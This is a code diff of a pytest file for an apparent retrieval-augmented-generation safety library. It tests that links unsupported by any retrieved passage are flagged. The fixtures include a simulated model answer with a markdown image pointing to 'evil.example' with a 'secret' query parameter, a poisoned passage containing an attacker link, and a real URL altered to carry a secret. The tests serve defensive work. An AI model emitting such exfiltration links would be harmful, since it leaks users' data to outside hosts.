@@ -6,9 +6,9 @@ import time
 
 import pytest
 
-from robustrag_integrations import CallableModel, KeywordAggregation, VanillaRAG
-from robustrag_integrations.answers.addresses import links_in
-from robustrag_integrations.answers.links import unsupported_links
+from robustrag_integrations import CallableModel, KeywordAggregation, VanillaRAG, isolate
+from robustrag_integrations.answers.links import links_in
+from robustrag_integrations.plans.endings import unsupported_links
 
 QUERY = "Who runs the mill?"
 
@@ -51,14 +51,14 @@ def model(said: str) -> CallableModel:
 def test_a_link_that_no_passage_has_is_named_and_warned_of() -> None:
     passages = ["Anna Lind runs the mill.", "It is Anna Lind, see https://mill.example/staff."]
     exfiltrates = VanillaRAG(model("Anna Lind ![x](https://evil.example/p?q=secret)")).answer(QUERY, passages)
-    assert unsupported_links(exfiltrates, passages) == ("https://evil.example/p?q=secret",)
+    assert unsupported_links(exfiltrates, isolate(passages)) == ("https://evil.example/p?q=secret",)
     [warning] = [w for w in exfiltrates.warnings if "no supporting passage has" in w]
     assert "https://evil.example/p?q=secret" in warning
     honest = VanillaRAG(model("Anna Lind (https://mill.example/staff)")).answer(QUERY, passages)
-    assert unsupported_links(honest, passages) == ()
+    assert unsupported_links(honest, isolate(passages)) == ()
     assert not any("no supporting passage" in w for w in honest.warnings)
     altered = VanillaRAG(model("See https://mill.example/staff?q=secret")).answer(QUERY, passages)
-    assert unsupported_links(altered, passages) == ("https://mill.example/staff?q=secret",)
+    assert unsupported_links(altered, isolate(passages)) == ("https://mill.example/staff?q=secret",)
 
 
 def test_only_passages_of_supporting_groups_count() -> None:
@@ -71,7 +71,7 @@ def test_only_passages_of_supporting_groups_count() -> None:
 
     passages = [*(f"Page {n}: Anna Lind runs the mill." for n in range(5)), "Bo Ek runs it: https://evil.example/x"]
     answer = KeywordAggregation(CallableModel(read), final="always").answer(QUERY, passages)
-    assert unsupported_links(answer, passages) == ("https://evil.example/x",)
+    assert unsupported_links(answer, isolate(passages)) == ("https://evil.example/x",)
     assert any("https://evil.example/x" in w for w in answer.warnings)
     assert VanillaRAG(CallableModel(lambda prompt: said)).answer(QUERY, passages).warnings == ()
 
